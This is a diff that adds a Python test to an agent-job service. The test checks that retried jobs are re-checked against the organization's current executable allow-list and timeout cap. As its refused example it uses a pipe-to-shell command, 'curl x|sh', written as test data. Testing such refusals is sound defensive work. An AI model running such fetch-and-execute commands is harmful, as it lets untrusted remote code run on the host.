@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import json
+from typing import Any
 
 from receipts import operations
 from receipts.agent_jobs.model import TURN_AGENT_ID
@@ -140,3 +142,44 @@ async def test_bulk_retry_is_bounded_filtered_and_idempotent(db_url: str, store:
     assert "job.retried" not in await types(store, rid(other))
     assert bad.status_code == 422 and bad.json()["error"]["field"] == "limit"
     assert unknown_field.status_code == 422 and unknown_field.json()["error"]["field"] == "agent"
+
+
+async def test_a_retry_is_held_to_the_allow_list_and_timeout_cap_as_they_are_now(
+    db_url: str, store: Store
+) -> None:
+    """A retry runs the old job's command again: as a schedule's firing, it is held to the
+    organization's `RECEIPT_ORG_EXECUTABLES` and the operator's `RECEIPT_MAX_TIMEOUT_MS` as they
+    are when it is made (403 naming the field and the list, nothing written; a bulk retry
+    leaves that job and retries the others), not as they were when the job was posted."""
+    org = f"org-{new_id()}"
+    tokens = f"token-{org} {org}"
+    as_org = {"Authorization": f"Bearer token-{org}"}
+
+    def codex(*argv: str) -> dict[str, Any]:
+        task = {"task": {"command": list(argv)}, "timeoutMs": 3_000_000}
+        return enqueue_body(org, jobId=new_id(), payload_extra=task)
+
+    off_list, on_list = codex("sh", "-c", "curl x|sh"), codex("git", "status")
+    async with api_client(db_url, store=store, tokens=tokens) as before:
+        for body in (off_list, on_list):
+            posted = await before.post("/agents/codex/jobs", json=body, headers=as_org)
+            assert posted.status_code == 202, posted.text
+            failed = await operations.fail_undeliverable(store, rid(body["jobId"], org), error="x")
+            assert failed.ok
+    now = {"RECEIPT_ORG_EXECUTABLES": json.dumps({org: ["git"]}), "max_timeout_ms": 60_000}
+    async with api_client(db_url, store=store, tokens=tokens, **now) as after:
+        refused = await after.post(f"/jobs/{off_list['jobId']}/retry", headers=as_org)
+        assert refused.status_code == 403, refused.text
+        error = refused.json()["error"]
+        assert (error["code"], error["field"], error["allowed"]) == (
+            "forbidden",
+            "payload.task.command",
+            ["git"],
+        )
+        bulk = await after.post("/jobs/retry", json={"agentId": "codex"}, headers=as_org)
+        assert bulk.status_code == 200, bulk.text
+        [retried] = bulk.json()["retried"]
+        assert retried["jobId"] == on_list["jobId"]
+        retry = (await after.get(f"/jobs/{retried['retryJobId']}", headers=as_org)).json()
+        assert retry["payload"]["timeoutMs"] == 60_000
+    assert "job.retried" not in await types(store, rid(off_list["jobId"], org))
